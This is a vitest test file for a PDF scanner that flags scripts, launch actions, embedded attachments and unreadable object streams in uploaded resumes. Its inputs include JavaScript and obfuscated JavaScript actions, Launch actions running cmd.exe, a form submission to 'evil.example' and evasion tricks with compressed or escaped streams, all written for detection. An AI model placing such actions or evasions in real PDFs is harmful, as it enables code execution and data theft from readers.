import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { emptyResume } from '#shared/resume/empty-resume';
import { pdf } from '../../../testing/content/documents';
import { findInPdf } from './pdf-findings';

/** A PDF with one more object. */
const withObject = (object: string | Buffer) =>
  Buffer.concat([
    pdf().subarray(0, 9),
    Buffer.from('9 0 obj\n'),
    Buffer.from(object),
    Buffer.from('\nendobj\n'),
    pdf().subarray(9),
  ]);
const stream = (dictionary: string, content: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);
const objectStream = (objects: string, dictionary = '/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode') =>
  stream(dictionary, deflateSync(Buffer.from(`12 0 ${objects}`)));

test('an ordinary document is nothing to tell of, large and compressed ones included', async () => {
  expect(await findInPdf(pdf())).toBeNull();
  expect(await findInPdf(pdf('JavaScript, Launch and EmbeddedFile', 2_000_000))).toBeNull();
  expect(await findInPdf(withObject(objectStream('<< /Type /Page >>')))).toBeNull();
  const picture = stream('/Subtype /Image /Filter /FlateDecode', deflateSync(Buffer.alloc(30_000_000)));
  expect(await findInPdf(withObject(picture))).toBeNull();
});

test.each([
  ['script', '<< /S /JavaScript /JS (app.alert(1)) >>'],
  ['script', '<< /S /J#61v#61Script /JS 3 0 R >>'],
  ['script', '<< /AcroForm << /XFA 5 0 R >> >>'],
  ['launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['launch', '<</S/Launch/Win<</F(cmd.exe)>>>>'],
  ['launch', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['attachment', '<< /Names << /EmbeddedFiles 7 0 R >> >>'],
] as const)('%s: %s', async (finding, object) => {
  expect(await findInPdf(withObject(object))).toBe(finding);
  expect(await findInPdf(withObject(objectStream(object)))).toBe(finding);
  expect(await findInPdf(withObject(objectStream(object, '/N 1 /First 5 /Filter /FlateDecode')))).toBe(
    finding,
  );
  // Also at the border of two pieces that are read.
  for (const before of [512 * 1024 - 40, 512 * 1024 - 5]) {
    const padded = Buffer.concat([pdf(), Buffer.alloc(before - pdf().length, ' '), Buffer.from(object)]);
    expect(await findInPdf(padded), String(before)).toBe(finding);
  }
});

test.each([
  ['encrypted', stream('/Type /ObjStm /Filter /FlateDecode', Buffer.alloc(500, 0xaa))],
  ['packed in another way', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.alloc(500, 0xaa))],
  ['its name escaped', stream('/Type /Obj#53tm /Filter /LZWDecode', Buffer.alloc(500, 0xaa))],
  ['transformed', objectStream('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>')],
  ['too large', objectStream(' '.repeat(20_000_000))],
  [
    'beside one that is read',
    Buffer.concat([objectStream('1'), stream('/Type /ObjStm /Filter /LZWDecode', Buffer.alloc(500, 0xaa))]),
  ],
  [
    'beside a stream that only looks like one',
    Buffer.concat([
      stream('/Filter /FlateDecode', deflateSync(Buffer.from('1 2 3 rg'))),
      stream('/Type /ObjStm', Buffer.alloc(9)),
    ]),
  ],
])('objects that cannot be read are a finding: %s', async (_why, object) => {
  expect(await findInPdf(withObject(object))).toBe('unreadable');
});

test('the data of our own resume is no foreign attachment, whatever its name another file is', async () => {
  const attached = (content: Buffer) =>
    withObject(
      Buffer.concat([
        Buffer.from(
          '<< /Names << /EmbeddedFiles << /Names [(husay-resume.json) 8 0 R] >> >> >>\nendobj\n10 0 obj\n',
        ),
        stream('/Type /EmbeddedFile /Filter /FlateDecode', deflateSync(content)),
      ]),
    );
  const own = Buffer.from(JSON.stringify({ format: 'husay-resume', version: 1, resume: emptyResume }));
  expect(await findInPdf(attached(own))).toBeNull();
  expect(await findInPdf(attached(Buffer.from('MZ an executable')))).toBe('attachment');
  expect(await findInPdf(Buffer.concat([attached(own), Buffer.from('/Type /EmbeddedFile')]))).toBe(
    'attachment',
  );
});
